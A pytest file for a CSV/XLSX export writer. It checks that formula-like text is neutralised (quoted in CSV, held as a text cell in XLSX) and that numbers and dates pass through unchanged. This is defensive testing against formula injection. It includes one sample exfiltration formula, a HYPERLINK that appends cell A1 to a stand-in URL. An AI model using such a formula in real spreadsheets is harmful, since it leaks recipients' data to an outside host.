"""The one writer of CSV and XLSX files (msonet.spreadsheets): formula-like text quoted in CSV and held
as text cells in XLSX; numbers, dates and empty cells as they are."""

import csv
import datetime
import io
import zoneinfo
from decimal import Decimal

import pytest
import tablib
from openpyxl import load_workbook

from msonet.spreadsheets import (
    FORMULA_PREFIXES,
    CSVFormat,
    XLSXFormat,
    safe_cell,
    write_csv,
    write_table,
    write_xlsx,
)

# Every prefix a spreadsheet reads as the start of a formula, with a name for the test's id.
PREFIXES = {
    "equals": "=",
    "plus": "+",
    "minus": "-",
    "at": "@",
    "tab": "\t",
    "carriage-return": "\r",
    "full-width-equals": "\uff1d",
    "full-width-plus": "\uff0b",
    "full-width-minus": "\uff0d",
    "full-width-at": "\uff20",
}
HYPERLINK = '=HYPERLINK("http://example.invalid/?"&A1,"click")'


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # the byte-order mark Excel needs to read UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def xlsx_cells(data: bytes):
    return list(load_workbook(io.BytesIO(data)).active.iter_rows())


def test_the_prefixes_are_every_one_a_spreadsheet_reads_as_a_formula():
    assert set(FORMULA_PREFIXES) == set(PREFIXES.values())


@pytest.mark.parametrize("prefix", PREFIXES.values(), ids=PREFIXES.keys())
def test_formula_like_text_gets_a_quote_in_csv(prefix):
    value = f"{prefix}2+2"
    assert safe_cell(value) == f"'{value}"
    rows = csv_rows(write_csv(["Name", value], [[value, "plain"]]))
    assert rows == [["Name", f"'{value}"], [f"'{value}", "plain"]]


@pytest.mark.parametrize("prefix", PREFIXES.values(), ids=PREFIXES.keys())
def test_formula_like_text_is_a_text_cell_in_xlsx_exactly_as_entered(prefix):
    value = f"{prefix}2+2"
    header, row = xlsx_cells(write_xlsx(["Name", value], [[value, "plain"]], title="People"))
    for cell, expected in ((header[1], value), (row[0], value), (row[1], "plain")):
        assert cell.data_type == "s", cell.coordinate
        # No quote; XML keeps a carriage return as a line feed.
        assert cell.value == expected.replace("\r", "\n")


def test_a_hyperlink_formula_is_text_in_both_formats():
    assert csv_rows(write_csv(["Name"], [[HYPERLINK]]))[1] == [f"'{HYPERLINK}"]
    (cell,) = xlsx_cells(write_xlsx(["Name"], [[HYPERLINK]], title="People"))[1]
    assert (cell.value, cell.data_type) == (HYPERLINK, "s")


def test_text_that_is_an_error_code_or_holds_a_formula_later_is_plain_text():
    values = ["#N/A", "#REF!", "Smith = Jones", "A+B", " =2+2", "'already quoted"]
    assert csv_rows(write_csv(values, []))[0] == values
    cells = xlsx_cells(write_xlsx(values, [], title="Codes"))[0]
    assert [(cell.value, cell.data_type) for cell in cells] == [(value, "s") for value in values]


def test_numbers_and_dates_are_untouched_and_none_is_empty():
    row = [
        42,
        -3,
        -2.5,
        Decimal("1.25"),
        datetime.date(2026, 10, 1),
        datetime.datetime(2026, 10, 1, 9, 30),
        True,
        False,
        None,
        "",
    ]
    assert [safe_cell(value) for value in row] == [
        42,
        -3,
        -2.5,
        Decimal("1.25"),
        "2026-10-01",
        "2026-10-01 09:30:00",
        "Yes",
        "No",
        "",
        "",
    ]
    assert csv_rows(write_csv(["h"] * len(row), [row]))[1] == [
        "42",
        "-3",
        "-2.5",
        "1.25",
        "2026-10-01",
        "2026-10-01 09:30:00",
        "Yes",
        "No",
        "",
        "",
    ]
    cells = xlsx_cells(write_xlsx(["h"] * len(row), [row], title="Values"))[1]
    assert [cell.value for cell in cells] == [
        42,
        -3,
        -2.5,
        1.25,
        datetime.datetime(2026, 10, 1),
        datetime.datetime(2026, 10, 1, 9, 30),
        "Yes",
        "No",
        None,
        None,
    ]
    assert [cell.data_type for cell in cells[:6]] == ["n", "n", "n", "n", "d", "d"]
    assert cells[4].number_format == "yyyy-mm-dd"


def test_a_date_and_time_is_written_in_the_portals_time_zone(settings):
    settings.TIME_ZONE = "Europe/London"
    moment = datetime.datetime(2026, 7, 1, 8, 0, tzinfo=zoneinfo.ZoneInfo("UTC"))
    assert safe_cell(moment) == "2026-07-01 09:00:00"
    (cell,) = xlsx_cells(write_xlsx(["When"], [[moment]], title="Times"))[1]
    assert cell.value == datetime.datetime(2026, 7, 1, 9, 0)


def test_xlsx_leaves_out_control_characters_no_workbook_may_hold_and_names_the_sheet():
    data = write_xlsx(["Name"], [["=bad\x07name"]], title="A sheet name far longer than thirty-one characters")
    workbook = load_workbook(io.BytesIO(data))
    assert workbook.sheetnames == ["A sheet name far longer than th"]
    assert workbook.active["A2"].value == "=badname"
    assert workbook.active["A2"].data_type == "s"


def test_write_table_writes_either_format_and_reports_progress():
    done = []
    rows = ([f"=row{n}"] for n in range(2500))
    assert csv_rows(write_table("csv", ["Name"], rows, "Rows", done.append))[-1] == ["'=row2499"]
    assert done == [1000, 2000]
    assert xlsx_cells(write_table("xlsx", ["Name"], [["=x"]], "Rows"))[1][0].value == "=x"
    with pytest.raises(ValueError, match="Unknown export format: pdf"):
        write_table("pdf", ["Name"], [], "Rows")


def test_the_import_export_formats_write_through_the_same_writer():
    dataset = tablib.Dataset(["=2+2", 7, datetime.date(2026, 1, 5)], headers=["name", "count", "on"])
    assert csv_rows(CSVFormat().export_data(dataset)) == [["name", "count", "on"], ["'=2+2", "7", "2026-01-05"]]
    cells = xlsx_cells(XLSXFormat().export_data(dataset))[1]
    assert [(cell.value, cell.data_type) for cell in cells] == [
        ("=2+2", "s"),
        (7, "n"),
        (datetime.datetime(2026, 1, 5), "d"),
    ]
    assert (CSVFormat().get_extension(), XLSXFormat().get_extension()) == ("csv", "xlsx")
